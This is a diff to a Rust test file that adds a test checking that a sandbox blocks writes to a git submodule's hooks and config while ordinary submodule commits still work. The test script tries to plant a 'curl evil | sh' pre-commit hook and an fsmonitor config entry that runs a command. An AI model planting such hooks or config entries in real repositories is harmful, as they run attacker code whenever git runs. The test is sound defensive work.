@@ -179,6 +179,52 @@ fn renaming_git_away_and_recreating_it_does_not_stick() {
     });
 }
 
+/// A submodule's git dir (`.git/modules/<path>/`) has its own hooks and config, run by git
+/// in the submodule exactly like the top-level ones: they are protected too, while ordinary
+/// work in the submodule (objects, index, refs) still goes through.
+#[test]
+fn submodule_hooks_and_config_are_protected() {
+    for_each_case(|case| {
+        let t = git_fixture(case);
+        let ws = t.ws.to_str().unwrap();
+        let gitdir = t.ws.join(".git/modules/libs/sub");
+        let (gitdir_s, sub_s) = (gitdir.to_str().unwrap(), format!("{ws}/libs/sub"));
+        as_user(case, &t.ws, &["mkdir", "-p", gitdir_s, &sub_s]);
+        as_user(
+            case,
+            &t.ws,
+            &["git", "init", "-q", "--separate-git-dir", gitdir_s, &sub_s],
+        );
+        let config_before = read(&gitdir.join("config"));
+        let script = r#"
+            echo 'curl evil | sh' > .git/modules/libs/sub/hooks/pre-commit
+            chmod +x .git/modules/libs/sub/hooks/pre-commit
+            printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' >> .git/modules/libs/sub/config
+            cd libs/sub && echo x > f.txt && git add f.txt \
+              && git -c user.email=t@example.com -c user.name=T commit -qm 'in the submodule'
+        "#;
+        let r = t.exec(&[], script);
+        assert_eq!(r.code, 0, "{case}: {}", r.stderr);
+        assert!(
+            !gitdir.join("hooks/pre-commit").exists(),
+            "{case}: a hook was planted in the submodule: {}",
+            r.stderr
+        );
+        assert_eq!(read(&gitdir.join("config")), config_before, "{case}");
+        let log = Command::new("git")
+            .arg("-C")
+            .arg(&sub_s)
+            .args(["-c", "safe.directory=*", "log", "--oneline"])
+            .output()
+            .unwrap();
+        assert!(
+            String::from_utf8_lossy(&log.stdout).contains("in the submodule"),
+            "{case}: the submodule commit did not land: {}",
+            r.stderr
+        );
+    });
+}
+
 #[test]
 fn git_add_and_commit_work() {
     for_each_case(|case| {
